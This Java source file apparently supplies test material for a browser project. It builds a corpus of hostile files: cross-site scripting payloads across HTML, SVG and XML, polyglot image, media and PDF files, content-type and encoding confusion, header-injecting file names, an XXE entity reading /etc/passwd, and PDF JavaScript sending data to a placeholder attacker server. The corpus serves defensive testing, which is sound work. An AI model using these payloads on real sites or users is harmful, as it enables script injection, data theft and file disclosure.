package dev.signalbox.browser;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/** A corpus of hostile files: documents, scripts, files of several types, and misleading names. */
final class HostileFiles {

  private static final String HTML = "text/html";
  private static final String SVG = "image/svg+xml";
  private static final String PNG = "\u0089PNG\r\n\u001a\n";
  private static final String XHTML =
      "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>SCRIPT</script></body></html>";

  private final List<HostileFile> files = new ArrayList<>();
  private final HostileScript script;
  private final String attacker;

  private HostileFiles(HostileScript script, String attacker) {
    this.script = script;
    this.attacker = attacker;
  }

  /**
   * Returns the files.
   *
   * @param attacker base URL of a server to which they try to send what they read
   */
  static List<HostileFile> of(HostileScript script, String attacker) {
    HostileFiles corpus = new HostileFiles(script, attacker);
    corpus.addPages();
    corpus.addPagesInPages();
    corpus.addReferences();
    corpus.addEncodings();
    corpus.addContentTypes();
    corpus.addNames();
    corpus.addVectorGraphics();
    corpus.addXml();
    corpus.addScripts();
    corpus.addSeveralTypes();
    corpus.addContainers();
    return List.copyOf(corpus.files);
  }

  /** Adds pages with a script that browsers run in different ways. */
  private void addPages() {
    runs("script.html", HTML, "<script>SCRIPT</script>");
    runs("error.html", HTML, "<img src=x onerror=\"SCRIPT\">");
    runs("load.html", HTML, "<body onload=\"SCRIPT\">");
    runs("svg-load.html", HTML, "<svg onload=\"SCRIPT\">");
    runs("focus.html", HTML, "<input autofocus onfocus=\"SCRIPT\">");
    runs("module.html", HTML, "<script type=module>SCRIPT</script>");
    runs(
        "write.html", HTML, "<script>document.write('<script>',\"SCRIPT\",'<\\/script>')</script>");
    runs(
        "shadow.html", HTML, "<p><template shadowrootmode=open><script>SCRIPT</script></template>");
    runs(
        "policy.html",
        HTML,
        "<meta http-equiv=Content-Security-Policy content=\"sandbox allow-same-origin"
            + " allow-scripts\"><script>SCRIPT</script>");
    runs(
        "cookie.html",
        HTML,
        "<meta http-equiv=Set-Cookie content=\"stolen=1; path=/\"><script>SCRIPT</script>");
    runs(
        "form.html",
        HTML,
        "<form method=post"
            + " action=/sign-out></form><script>document.forms[0].submit();SCRIPT</script>");
    runs(
        "form-script.html",
        HTML,
        "<form"
            + " action=\"javascript:SCRIPT\"></form><script>document.forms[0].submit();SCRIPT</script>");
    runs(
        "link.html",
        HTML,
        "<a href=\"javascript:SCRIPT\">x</a><script>document.links[0].click()</script>");
  }

  /** Adds pages that contain another document. */
  private void addPagesInPages() {
    runs("srcdoc.html", HTML, "<iframe srcdoc=\"<script>SCRIPT</script>\"></iframe>");
    add("frame-script.html", HTML, "<iframe src=\"javascript:SCRIPT\"></iframe>");
    add("frame-data.html", HTML, "<iframe src=\"DATA\"></iframe>");
    add("frame-users.html", HTML, "<iframe src=/users></iframe>");
    add("object-data.html", HTML, "<object data=\"DATA\"></object>");
    add("refresh-data.html", HTML, "<meta http-equiv=refresh content=\"0;url=DATA\">");
    add(
        "refresh-script.html",
        HTML,
        "<meta http-equiv=refresh content=\"0;url=javascript:SCRIPT\">");
    add(
        "worker.html",
        HTML,
        "<script>new Worker(URL.createObjectURL(new"
            + " Blob([`SCRIPT`],{type:'text/javascript'})))</script>");
    add("shared-worker.html", HTML, "<script>new SharedWorker(`JSDATA`)</script>");
    runs(
        "service-worker.html",
        HTML,
        "<script>navigator.serviceWorker.register('service-worker.js');</script><script>SCRIPT</script>");
  }

  /** Adds pages that load something. */
  private void addReferences() {
    add(
        "base.html",
        HTML,
        "<base href=\"ATTACKER/\"><script src=stolen.js></script><img src=stolen.png>");
    add(
        "import.html",
        HTML,
        "<style>@import url(ATTACKER/stolen.css);body{background:url(ATTACKER/stolen)}</style>");
    add(
        "prefetch.html",
        HTML,
        "<link rel=prefetch href=\"ATTACKER/stolen\"><link rel=preload as=fetch"
            + " href=\"ATTACKER/stolen\">");
    add(
        "media.html",
        HTML,
        "<video src=\"ATTACKER/stolen\" poster=\"ATTACKER/stolen\"></video><audio"
            + " src=\"ATTACKER/stolen\">");
    add(
        "ping.html",
        HTML,
        "<a href=\"#\" ping=\"ATTACKER/stolen\">x</a><script>document.links[0].click()</script>");
    add(
        "import-map.html",
        HTML,
        "<script type=importmap>{\"imports\":{\"x\":\"JSDATA\"}}</script><script type=module>import"
            + " 'x'</script>");
    add(
        "speculation.html",
        HTML,
        "<script"
            + " type=speculationrules>{\"prerender\":[{\"source\":\"list\",\"urls\":[\"/users\"]}],"
            + "\"prefetch\":[{\"source\":\"list\",\"urls\":[\"/users\",\"ATTACKER/stolen\"]}]}</script>");
    add(
        "script-source.html",
        HTML,
        "<script src=\"javascript.js\"></script><script src=\"JSDATA\"></script>");
  }

  /** Adds pages whose bytes are markup only in one encoding. */
  private void addEncodings() {
    String page = "<script>SCRIPT</script>";
    encoded("utf-7.html", "text/html; charset=utf-7", utf7(), StandardCharsets.US_ASCII, false);
    encoded("utf-7.txt", "text/plain; charset=utf-7", utf7(), StandardCharsets.US_ASCII, false);
    encoded("utf-16.html", "text/html; charset=utf-16le", page, StandardCharsets.UTF_16LE, false);
    encoded("utf-16-bom.html", HTML, "\uFEFF" + page, StandardCharsets.UTF_16LE, true);
    encoded("utf-16-bom.txt", "text/plain", "\uFEFF" + page, StandardCharsets.UTF_16LE, false);
    encoded("utf-8-bom.html", HTML, "\uFEFF" + page, StandardCharsets.UTF_8, true);
    encoded(
        "iso-2022-jp.html",
        "text/html; charset=iso-2022-jp",
        "\u001b(J<p title=\"\u001b$B\"\u001b(B><script>SCRIPT</script>",
        StandardCharsets.US_ASCII,
        true);
    encoded("nul.html", HTML, "\0\0<scr\0ipt>SCRIPT</script>", StandardCharsets.US_ASCII, false);
  }

  /** Adds pages with content types that programs read differently. */
  private void addContentTypes() {
    List<String> read =
        List.of(
            "TEXT/HTML",
            "text/html;charset=utf-8;charset=utf-7",
            "text/html; x=\"text/plain\"",
            " text/html ",
            "text/html ;");
    List<String> other =
        List.of(
            "text/html, text/plain",
            "text/plain, text/html",
            "text/plain; text/html",
            "text/html\u00a0",
            "html",
            "*/*",
            "unknown/unknown",
            "application/octet-stream",
            "text/plain",
            "application/json",
            "text/markdown",
            "text/vcard",
            "text/x-component",
            "application/hta",
            "application/x-shockwave-flash",
            "chemical/x-html");
    int number = 0;
    for (String type : read) {
      runs("type-" + number++, type, "<script>SCRIPT</script>");
    }
    for (String type : other) {
      add("type-" + number++, type, "<!DOCTYPE html><script>SCRIPT</script>");
    }
  }

  /** Adds pages with misleading names, without a type or with a generic one. */
  private void addNames() {
    List<String> pages =
        List.of(
            "a.html",
            "a.HTML",
            "a.txt.html",
            "a.png.html",
            "a.htm",
            "<img src=x onerror=alert(1)>.html");
    List<String> others =
        List.of(
            "a",
            "a.html.txt",
            "a.html.png",
            "a.html;.txt",
            "a.html\n.png",
            "a.html\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.png",
            "a\"; filename=\"b.html",
            "a\u202egnp.html.txt",
            "a.hta");
    pages.forEach(name -> runs("names/" + name, null, "<script>SCRIPT</script>"));
    others.forEach(name -> add("names/" + name, null, "<!DOCTYPE html><script>SCRIPT</script>"));
    runs("names/generic.html", "binary/octet-stream", "<script>SCRIPT</script>");
    add("names/wrong.html", "image/png", "<!DOCTYPE html><script>SCRIPT</script>");
  }

  private void addVectorGraphics() {
    String start =
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' ";
    runs("script.svg", SVG, start + "><script>SCRIPT</script></svg>");
    runs("load.svg", SVG, start + "onload=\"SCRIPT\"/>");
    runs("untyped.svg", null, start + "><script>SCRIPT</script></svg>");
    runs("SVG.SVG", "IMAGE/SVG+XML", start + "><script>SCRIPT</script></svg>");
    runs("foreign.svg", SVG, start + "><foreignObject>" + XHTML + "</foreignObject></svg>");
    runs(
        "animate.svg",
        SVG,
        start + "><animate onbegin=\"SCRIPT\" attributeName='x' dur='1s'/></svg>");
    add(
        "link.svg",
        SVG,
        start + "><a xlink:href=\"javascript:SCRIPT\"><text y='20'>x</text></a></svg>");
    add("image.svg", "image/png", start + "><script>SCRIPT</script></svg>");
  }

  private void addXml() {
    runs("page.xhtml", "application/xhtml+xml", XHTML);
    runs("untyped.xhtml", null, XHTML);
    runs("page.xml", "text/xml", XHTML);
    runs("application.xml", "application/xml; charset=utf-7", XHTML);
    add("feed.rss", "application/rss+xml", "<rss>" + XHTML + "</rss>");
    runs("style.xsl", "text/xsl", XHTML);
    add("style.xslt", "application/xslt+xml", stylesheet());
    add("transformed.xml", "text/xml", "<?xml-stylesheet type='text/xsl' href='style.xslt'?><x/>");
    add(
        "transformed-data.xml",
        "text/xml",
        "<?xml-stylesheet type='text/xsl' href=\"XSLDATA\"?><x/>");
    add(
        "style.xml",
        "text/xml",
        "<?xml-stylesheet type='text/css' href='ATTACKER/stolen.css'?><x>x</x>");
    add(
        "entity.xml",
        "text/xml",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'ATTACKER/stolen'><!ENTITY f SYSTEM 'file:///etc/passwd'>]>"
            + "<x>&e;&f;</x>");
    add("schema.dtd", "application/xml-dtd", "<!ENTITY x \"<script>SCRIPT</script>\">");
    runs("report.xml", null, "<testsuite><testcase name='x'>" + XHTML + "</testcase></testsuite>");
  }

  /** Adds files that are scripts or style sheets of other pages. */
  private void addScripts() {
    add("javascript.js", "text/javascript", "SCRIPT");
    add("application.js", "application/javascript", "SCRIPT");
    add("ecmascript.es", "text/ecmascript", "SCRIPT");
    add("untyped.js", null, "SCRIPT");
    add("module.mjs", null, "SCRIPT");
    add("typed.js", "text/plain", "SCRIPT");
    add("json.js", "application/json", "[SCRIPT]");
    add("service-worker.js", "text/javascript", "self.addEventListener('fetch',()=>{});SCRIPT");
    add("style.css", "text/css", "@import 'ATTACKER/stolen';*{background:url(ATTACKER/stolen)}");
    add(
        "app.webmanifest",
        "application/manifest+json",
        "{\"start_url\":\"/users\",\"scope\":\"/\"}");
  }

  /** Adds files that are valid as two types at once. */
  private void addSeveralTypes() {
    latin("gif-script.gif", "image/gif", "GIF89a/*\1\0\1\0\0\0\0;*/=1;SCRIPT");
    latin("gif-script.js", "text/javascript", "GIF89a/*\1\0\1\0\0\0\0;*/=1;SCRIPT");
    latin("jpeg-script.jpg", "image/jpg", "\u00ff\u00d8\u00ff\u00e0/*JFIF*/=1;SCRIPT");
    latin("png-page.png", "image/png", PNG + "<html><script>SCRIPT</script>");
    latin("png-untyped.png", null, PNG + "<html><script>SCRIPT</script>");
    latin("wav-script.wav", "audio/wav", "RIFF=1;SCRIPT");
    latin("mp4-page.mp4", "video/mp4", "\0\0\0 ftypisom<script>SCRIPT</script>");
    latin("webm-page.webm", "video/webm", "\u001aE\u00df\u00a3<script>SCRIPT</script>");
    latin("pdf-page.pdf", "application/pdf", "%PDF-1.7\n<script>SCRIPT</script>");
    latin("zip-page.jar", "application/java-archive", "PK\3\4<script>SCRIPT</script>");
    latin("code.wasm", "application/wasm", "\0asm\1\0\0\0<script>SCRIPT</script>");
    encoded("png-page", HTML, PNG + "<script>SCRIPT</script>", StandardCharsets.ISO_8859_1, true);
  }

  /** Adds documents of plug-ins and files that contain other files. */
  private void addContainers() {
    add("script.pdf", "application/pdf", pdf());
    add("wrong.pdf", "text/pdf", pdf());
    add(
        "mixed",
        "multipart/x-mixed-replace; boundary=x",
        "--x\r\nContent-Type: text/html\r\n\r\n<script>SCRIPT</script>\r\n--x--\r\n");
    add(
        "mail.eml",
        "message/rfc822",
        "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>SCRIPT</script>\r\n");
    add(
        "archive.mht",
        "multipart/related; boundary=x",
        """
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary=x

        --x
        Content-Type: text/html
        Content-Location: ATTACKER

        <script>SCRIPT</script>
        --x--\
        """
            .replace("\n", "\r\n"));
    add("card.vcf", "text/vcard", "BEGIN:VCARD\r\nNOTE:<script>SCRIPT</script>\r\nEND:VCARD\r\n");
  }

  private void add(String name, @Nullable String type, String content) {
    encoded(name, type, content, StandardCharsets.UTF_8, false);
  }

  private void runs(String name, @Nullable String type, String content) {
    encoded(name, type, content, StandardCharsets.UTF_8, true);
  }

  private void encoded(
      String name, @Nullable String type, String content, Charset charset, boolean runs) {
    files.add(new HostileFile(name, type, fill(content), charset, runs));
  }

  private void latin(String name, @Nullable String type, String content) {
    encoded(name, type, content, StandardCharsets.ISO_8859_1, false);
  }

  private String fill(String content) {
    return content
        .replace("JSDATA", script.dataUrl("text/javascript", "", ""))
        .replace("XSLDATA", script.dataUrl("text/xsl", "", ""))
        .replace("DATA", script.dataUrl("text/html", "<script>", "</script>"))
        .replace("ATTACKER", attacker)
        .replace("SCRIPT", script.text());
  }

  private static String utf7() {
    return "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-";
  }

  private static String stylesheet() {
    return "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        + "<xsl:template match='/'>"
        + XHTML
        + "</xsl:template></xsl:stylesheet>";
  }

  private static String pdf() {
    return """
    %PDF-1.7
    1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>> endobj
    2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
    3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj
    4 0 obj <</S/JavaScript/JS(app.launchURL\\('ATTACKER/stolen'\\);this.submitForm\\('ATTACKER/stolen'\\))>> endobj
    trailer <</Root 1 0 R>>
    """;
  }
}
